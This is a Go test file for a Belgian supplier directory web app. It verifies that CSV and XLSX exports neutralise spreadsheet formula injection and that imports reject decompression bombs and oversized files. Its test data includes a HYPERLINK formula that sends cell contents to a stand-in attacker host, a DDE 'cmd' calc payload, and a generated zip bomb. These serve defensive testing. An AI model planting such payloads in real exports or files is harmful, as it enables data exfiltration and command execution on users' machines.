package ui_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/verken/verken/directory"
	"github.com/verken/verken/internal/testenv"
)

// hostileNames begin with every character OWASP's CSV Injection guidance
// names: a spreadsheet would run each as a formula.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"Poetsploeg")`,
	"+1+1 Poetsploeg",
	"-2+3 Poetsploeg",
	"@SUM(1+1) Poetsploeg",
	"\t=1+1 Poetsploeg",
	"\r=1+1 Poetsploeg",
}

// readCSV parses an export as Belgian Excel would split it.
func readCSV(t *testing.T, what string, body []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\xEF\xBB\xBF"))))
	r.Comma = ';'
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v\n%s", what, err, body)
	}
	return records
}

// formulaCells lists the cells a spreadsheet would read as a formula:
// those that begin with = + - @ tab or CR, except a plain negative number.
func formulaCells(records [][]string) []string {
	var bad []string
	for _, rec := range records {
		for _, cell := range rec {
			if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				continue
			}
			if cell[0] == '-' && strings.Trim(cell[1:], "0123456789,.") == "" && len(cell) > 1 {
				continue
			}
			bad = append(bad, cell)
		}
	}
	return bad
}

// Suppliers whose names begin with a formula appear in every CSV export as
// text, with OWASP's single-quote prefix, and in the XLSX export as text
// cells, never formulas. Numbers stay numbers.
func TestExportsNeutraliseFormulas(t *testing.T) {
	s := startServer(t, 0)
	// The store keeps names trimmed: a leading tab or CR goes, and the
	// formula behind it is what an export must neutralise.
	var names []string
	for i, name := range hostileNames {
		sup := &directory.Supplier{
			Name: name, Kind: directory.KindMaatwerkbedrijf, Description: "=cmd|'/c calc'!A1",
			EnterpriseNumber: directory.EnterpriseNumberWithCheck(7100000 + i), TargetGroupShare: 65,
			Contact:      directory.Contact{Phone: "+32 9 123 45 6" + fmt.Sprint(i)},
			Recognitions: []directory.Recognition{{Type: "maatwerkbedrijf", Number: fmt.Sprintf("M-%d", i), ValidFrom: directory.NewDate(2020, 1, 1)}},
			Sites:        []directory.Site{{Postcode: "9000"}},
			Offers:       []directory.Offer{{Task: "office-cleaning", FreeFTE: 1.5, LeadTimeWeeks: 2, AtClientSite: true, ServiceArea: directory.ServiceArea{Provinces: []string{"OVL"}}}},
		}
		if err := s.Store.Create(sup); err != nil {
			t.Fatalf("%q: %v", name, err)
		}
		got, err := s.Store.Get(sup.ID)
		if err != nil || !strings.ContainsAny(got.Name[:1], "=+-@\t\r") {
			t.Fatalf("%q is stored as %q (%v)", name, got.Name, err)
		}
		names = append(names, got.Name)
	}
	waitIndexed(t, s)

	exports := map[string]string{
		"search export":      "/api/v1/suppliers/export.csv?sort=name",
		"market check":       "/marktverkenning/leveranciers.csv?" + workedExample,
		"market check, page": "/marktverkenning/leveranciers.csv?task=office-cleaning&place=9000&volume_fte=1&start=2030-01-07",
	}
	for what, path := range exports {
		resp, body := fetch(t, s.URL+path)
		if resp.StatusCode != 200 {
			t.Fatalf("%s: %d\n%s", what, resp.StatusCode, body)
		}
		records := readCSV(t, what, body)
		if bad := formulaCells(records); len(bad) > 0 {
			t.Errorf("%s: %d cells open as formulas: %q", what, len(bad), bad)
		}
		var got []string
		for _, rec := range records[1:] {
			got = append(got, rec[0])
		}
		for _, name := range names {
			if !slices.Contains(got, "'"+name) {
				t.Errorf("%s: %q is not in the export as %q; names %q", what, name, "'"+name, got)
			}
		}
	}

	// The segments overview holds no supplier text, but its numbers go
	// through the same writer: they must stay numbers.
	resp, body := fetch(t, s.URL+"/segmenten.csv")
	if resp.StatusCode != 200 {
		t.Fatalf("segments: %d", resp.StatusCode)
	}
	seg := readCSV(t, "segments", body)
	if bad := formulaCells(seg); len(bad) > 0 || len(seg) < 2 {
		t.Fatalf("segments: %d rows, formula cells %q", len(seg), bad)
	}
	for _, rec := range seg[1:] {
		if strings.HasPrefix(rec[3], "'") || strings.HasPrefix(rec[4], "'") {
			t.Fatalf("segments: a number became text: %q", rec)
		}
	}

	// The workbook holds the names as they are, in text cells.
	resp, body = fetch(t, s.URL+"/api/v1/suppliers/export.xlsx?sort=name")
	if resp.StatusCode != 200 {
		t.Fatalf("xlsx: %d", resp.StatusCode)
	}
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	rows, _ := f.GetRows(sheet)
	found := 0
	for i, row := range rows[1:] {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		formula, _ := f.GetCellFormula(sheet, cell)
		typ, _ := f.GetCellType(sheet, cell)
		if formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
			t.Fatalf("xlsx %s %q: formula %q, type %v", cell, row[0], formula, typ)
		}
		if slices.Contains(names, row[0]) {
			found++
		}
	}
	if found != len(names) {
		t.Fatalf("xlsx: %d of the %d names as they were: %q", found, len(names), rows)
	}
}

// adminAPI is an administrator's API client.
func adminAPI(t *testing.T, s *liveServer) *browserless {
	t.Helper()
	acc := account(t, s, "beheer-api@verken.example", directory.RoleAdmin)
	token, _, err := s.Store.NewToken(acc.ID, "", "import")
	if err != nil {
		t.Fatal(err)
	}
	api := newVisitor(t, s)
	api.bearer, api.csrf = token, ""
	return api
}

// allocated runs f and returns how many bytes the process allocated
// meanwhile (server and test share the process).
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// A 250 KB workbook that unzips to 300 MB is refused with 422 naming the
// limit, on the administration page and through the API, without the
// server unzipping it; so are files over the row and cell limits.
func TestImportRefusesDecompressionBombs(t *testing.T) {
	s := startServer(t, 0)
	account(t, s, "admin@verken.example", directory.RoleAdmin)
	admin := newVisitor(t, s)
	admin.signIn("admin@verken.example", testPassword)
	api := adminAPI(t, s)

	cols := directory.TableColumns()
	header := testenv.XLSXRow(cols...)
	row := testenv.XLSXRow("0123456749", "Bom", "lde")
	// 300 MB of empty rows compress best: about 450 KB.
	bomb := testenv.XLSX(t, testenv.Then(testenv.Text(header), testenv.Repeat("<row/>", 300<<20)))
	if len(bomb) > 600<<10 {
		t.Fatalf("the bomb is %d KB; it should be a few hundred", len(bomb)>>10)
	}

	admin.get("/beheer")
	var code int
	var page string
	grew := allocated(func() { code, _, page = admin.upload("/beheer/import", "leveranciers.xlsx", string(bomb), false) })
	if code != 422 || !strings.Contains(page, "uitgepakt groter dan 64 MiB (limiet: uitgepakte grootte)") {
		t.Fatalf("admin page: %d\n%s", code, page)
	}
	t.Logf("refusing a %d KB bomb on the page allocated %.1f MB", len(bomb)>>10, float64(grew)/(1<<20))
	if grew > 48<<20 {
		t.Fatalf("refusing a %d KB bomb allocated %d MB", len(bomb)>>10, grew>>20)
	}

	var body string
	grew = allocated(func() {
		code, _, body = api.do("POST", "/api/v1/admin/import?format=xlsx", bytes.NewReader(bomb), "application/octet-stream")
	})
	var e struct{ Error, Param, Value, Reason string }
	_ = json.Unmarshal([]byte(body), &e)
	if code != 422 || e.Error != "limit_exceeded" || e.Value != "unzipped_bytes" || !strings.Contains(e.Reason, "64 MiB") {
		t.Fatalf("API: %d %s", code, body)
	}
	t.Logf("refusing it through the API allocated %.1f MB", float64(grew)/(1<<20))
	if grew > 48<<20 {
		t.Fatalf("refusing a %d KB bomb through the API allocated %d MB", len(bomb)>>10, grew>>20)
	}

	// Within the unzipped size but over the row limit: streamed, counted,
	// refused at row 50,002.
	many := testenv.XLSX(t, testenv.Then(testenv.Text(header), testenv.Repeat(row, int64(len(row))*60000)))
	code, _, body = api.do("POST", "/api/v1/admin/import?format=xlsx&dry_run=true", bytes.NewReader(many), "application/octet-stream")
	if code != 422 || !strings.Contains(body, `"value":"rows"`) || !strings.Contains(body, "more than 50000 rows") {
		t.Fatalf("rows: %d %s", code, body)
	}

	// One cell over Excel's own 32,767 characters, on the page in French.
	long := testenv.XLSX(t, testenv.Text(header+testenv.XLSXRow("0123456749", strings.Repeat("x", 40000), "lde")))
	admin.get("/beheer?lang=fr")
	code, _, page = admin.upload("/beheer/import", "leveranciers.xlsx", string(long), false)
	if code != 422 || !strings.Contains(page, "Ligne 2, la colonne name contient plus de 32767 caractères") {
		t.Fatalf("cell: %d\n%s", code, page)
	}

	// CSV and JSON are bounded the same way.
	var many2 strings.Builder
	many2.WriteString(strings.Join(cols, ";") + "\n")
	for range 50001 {
		many2.WriteString("0123456749;X;lde\n")
	}
	code, _, body = api.do("POST", "/api/v1/admin/import?format=csv&dry_run=true", strings.NewReader(many2.String()), "text/csv")
	if code != 422 || !strings.Contains(body, `"value":"rows"`) {
		t.Fatalf("csv rows: %d %s", code, body)
	}
	code, _, body = api.do("POST", "/api/v1/admin/import?format=jsonl&dry_run=true", strings.NewReader(`{"name":"`+strings.Repeat("x", 40000)+`"}`), "application/x-ndjson")
	if code != 422 || !strings.Contains(body, `"value":"cell_chars"`) || !strings.Contains(body, "column name") {
		t.Fatalf("json cell: %d %s", code, body)
	}
	if n, _ := s.Store.Count(); n != 0 {
		t.Fatalf("%d suppliers stored from refused files", n)
	}
}

// A normal workbook, also one whose sheet is too large to keep in memory
// and is streamed from a temporary file, is still imported row by row.
func TestImportKeepsGoodRowsOfLargeWorkbooks(t *testing.T) {
	s := startServer(t, 0)
	api := adminAPI(t, s)
	table := importTable(t)
	var sheet strings.Builder
	for _, r := range table {
		sheet.WriteString(testenv.XLSXRow(r...))
	}
	small := testenv.XLSX(t, testenv.Text(sheet.String()))
	code, _, body := api.do("POST", "/api/v1/admin/import?format=xlsx", bytes.NewReader(small), "application/octet-stream")
	var rep struct {
		Created []json.RawMessage `json:"created"`
		Errors  []json.RawMessage `json:"errors"`
	}
	if err := json.Unmarshal([]byte(body), &rep); err != nil || code != 200 || len(rep.Created) != 2 || len(rep.Errors) != 5 {
		t.Fatalf("small workbook: %d %s", code, body)
	}
	if n, _ := s.Store.Count(); n != 2 {
		t.Fatalf("%d suppliers stored, want the 2 good rows", n)
	}

	// 2,000 good rows with long descriptions: about 6 MB of sheet.
	cols := directory.TableColumns()
	at := func(name string) int { return slices.Index(cols, name) }
	big := testenv.XLSX(t, func(w io.Writer) error {
		if _, err := io.WriteString(w, testenv.XLSXRow(cols...)); err != nil {
			return err
		}
		for i := range 2000 {
			r := make([]string, len(cols))
			r[at("enterprise_number")] = directory.EnterpriseNumberWithCheck(6000000 + i)
			r[at("name")] = fmt.Sprintf("Groot %d", i)
			r[at("kind")] = "lde"
			r[at("description")] = strings.Repeat("Schoonmaak en groenonderhoud. ", 90)
			r[at("site_postcode")] = "2000"
			if _, err := io.WriteString(w, testenv.XLSXRow(r...)); err != nil {
				return err
			}
		}
		return nil
	})
	code, _, body = api.do("POST", "/api/v1/admin/import?format=xlsx&dry_run=true", bytes.NewReader(big), "application/octet-stream")
	rep.Created, rep.Errors = nil, nil
	if err := json.Unmarshal([]byte(body), &rep); err != nil || code != 200 || len(rep.Created) != 2000 || len(rep.Errors) != 0 {
		t.Fatalf("large workbook: %d %.600s", code, body)
	}
}
